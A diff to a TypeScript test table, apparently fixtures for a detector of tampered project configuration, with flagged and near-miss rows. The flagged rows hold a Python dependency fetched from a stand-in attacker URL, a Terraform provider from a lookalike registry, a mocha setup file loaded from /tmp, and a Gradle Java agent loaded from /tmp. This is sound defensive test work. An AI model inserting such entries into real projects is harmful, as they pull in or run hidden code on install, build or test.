@@ -106,6 +106,44 @@ const ROWS: { note: string; file: string; content: string; asked: boolean }[] = 
     asked: false,
   },
   {
+    note: 'a pyproject dependency straight from a URL',
+    file: 'pyproject.toml',
+    content:
+      '[project]\ndependencies = [\n  "structlog>=24.1",\n  "acme-retry @ https://x.evil.example/r-1.0.tar.gz",\n]\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: pyproject dependencies by name',
+    file: 'pyproject.toml',
+    content: '[project]\ndependencies = [\n  "structlog>=24.1",\n  "httpx[http2]~=0.27",\n]\n',
+    asked: false,
+  },
+  {
+    note: 'a Terraform provider from another registry',
+    file: 'infra/versions.tf',
+    content:
+      'terraform {\n  required_providers {\n    ops = {\n      source = "registry.x.evil.example/acme/ops"\n    }\n  }\n}\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: a Terraform provider by namespace and name',
+    file: 'infra/versions.tf',
+    content: 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}\n',
+    asked: false,
+  },
+  {
+    note: 'a mocha setup file in a temporary folder',
+    file: '.mocharc.yml',
+    content: "spec: 'test/**/*.spec.ts'\nrequire:\n  - ts-node/register\n  - /tmp/.cache/init.js\n",
+    asked: true,
+  },
+  {
+    note: 'near miss: mocha setup from the project',
+    file: '.mocharc.yml',
+    content: "spec: 'test/**/*.spec.ts'\nrequire:\n  - ts-node/register\n  - test/setup.ts\n",
+    asked: false,
+  },
+  {
     note: 'a Java agent in the Gradle JVM options',
     file: 'gradle.properties',
     content: 'org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/.a/agent.jar\n',
